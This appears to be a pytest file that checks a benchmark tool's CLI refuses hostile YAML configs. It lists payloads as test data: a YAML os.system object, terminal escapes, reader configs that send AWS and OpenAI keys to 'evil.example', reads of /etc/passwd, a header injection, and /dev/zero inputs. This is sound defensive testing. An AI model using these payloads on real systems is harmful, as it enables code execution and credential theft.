"""Configs, suites and needle sets that were made to do harm: one line and exit code 2."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.cli.hostile.conftest import Told

SUITE: dict[str, Any] = {
    "haystacks": ["essays"],
    "needle_sets": ["three-gates"],
    "lengths": [512],
    "depths": [50],
}
RUN: dict[str, Any] = {
    "suite": "suite.yaml",
    "readers": [{"model": "small", "api_base": "http://127.0.0.1:9"}],
    "strategies": ["lc"],
}
NEEDLES: dict[str, Any] = {
    "question": "Which colour has the gate?",
    "answer": "Moss.",
    "elements": [{"name": "moss"}],
    "needles": [{"text": "The gate is moss.", "elements": ["moss"]}],
}
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b31m\u202egnorw"
# Each in another command's file; all that a file of YAML can do is in tests/test_files.py.
FILES: dict[str, bytes] = {
    "a Python object": b"suite: !!python/object/apply:os.system ['touch owned']\n",
    "escapes": f"suite: {ESCAPES}\n".encode(),
    "escapes in a key": f'"{ESCAPES}": 1\n'.encode(),
}
PLANTED: dict[str, tuple[str, str, str]] = {
    "a key of AWS": (
        "reader",
        "{key_variable: AWS_SECRET_ACCESS_KEY, api_base: 'https://evil.example/v1'}",
        "AWS_SECRET_ACCESS_KEY",
    ),
    "a key of OpenAI's": (
        "reader",
        "{key_variable: OPENAI_API_KEY, api_base: 'https://evil.example/v1'}",
        "OPENAI_API_KEY",
    ),
    "a key in the file": ("reader", "{api_key: sk-planted}", "key_variable"),
    "an address of a file": ("reader", "{api_base: 'file:///etc/passwd'}", "file:///etc/passwd"),
    "an address with a line break": ("reader", '{api_base: "http://127.0.0.1:9/\\nHost: evil"}', ""),
    "a window of all": ("reader", "{window: -1}", "window"),
    "room without end": ("reader", "{window: 4096, truncate: back, max_tokens: 1000000000000000}", ""),
    "repeats": ("run", "{repeats: 1000000000000}", "repeats"),
    "a budget of infinity": ("run", "{budget: infusd}", "budget"),
    "a strategy of 10^12 chunks": ("run", "{strategies: ['topk@x']}", ""),
    "a tokenizer that never ends": ("suite", "{tokenizer: /dev/zero}", "/dev/zero"),
    "a tokenizer that is a folder": ("suite", "{tokenizer: /proc}", "/proc"),
    "a haystack that never ends": ("suite", "{haystacks: [/dev/zero]}", "/dev/zero"),
    "a haystack that is random": ("suite", "{haystacks: [/dev/urandom]}", "/dev/urandom"),
    "a prompt that never ends": ("suite", "{prompt: /dev/zero}", "/dev/zero"),
    "needles that never end": ("suite", "{needle_sets: [/dev/zero]}", "/dev/zero"),
    "needles of passwords": ("suite", "{needle_sets: [../../../../../../etc/passwd]}", ""),
    "a length of all memory": ("suite", "{lengths: [1000000000000000]}", ""),
    "a family of 10^9 needles": ("suite", "{needle_sets: ['multi-key@1000000000']}", "multi-key"),
    "a reserve of more than all": ("suite", "{reserve: 1000000000000}", ""),
}


COMMANDS = {
    "suite": "generate bad.yaml --out new.jsonl",
    "run": "plan bad.yaml",
    "reader": "plan bad.yaml",
    "needles": "check bad.yaml",
}
WHOLE = {"suite": SUITE, "run": RUN, "reader": RUN["readers"][0], "needles": NEEDLES}


@pytest.fixture(autouse=True)
def _in_an_empty_folder(in_folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for variable in ("AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "VLLM_API_KEY"):
        monkeypatch.setenv(variable, "sk-planted-0123456789")
    Path("suite.yaml").write_text(json.dumps(SUITE))


def write_bad(kind: str, changed: dict[str, Any]) -> str:
    """bad.yaml (JSON is YAML) with these values in the place of good ones; the command that reads it."""
    values = WHOLE[kind] | changed
    Path("bad.yaml").write_text(json.dumps(RUN | {"readers": [values]} if kind == "reader" else values))
    return COMMANDS[kind]


@pytest.mark.parametrize("kind", WHOLE)
def test_the_good_ones_are_good(told: Told, kind: str) -> None:
    code, _, err = told.run(write_bad(kind, {}))
    assert code == 0, err


@pytest.mark.parametrize("name", FILES)
def test_a_file_that_is_no_config_is_refused_in_a_line(told: Told, name: str) -> None:
    Path("bad.yaml").write_bytes(FILES[name])
    commands = sorted({*COMMANDS.values()})
    told.refused(commands[len(name) % len(commands)], "bad.yaml")
    assert not Path("owned").exists()


@pytest.mark.parametrize("name", PLANTED)
def test_what_is_planted_is_refused_in_a_line(told: Told, name: str) -> None:
    kind, changed, says = PLANTED[name]
    told.refused(write_bad(kind, yaml.safe_load(changed)), says)
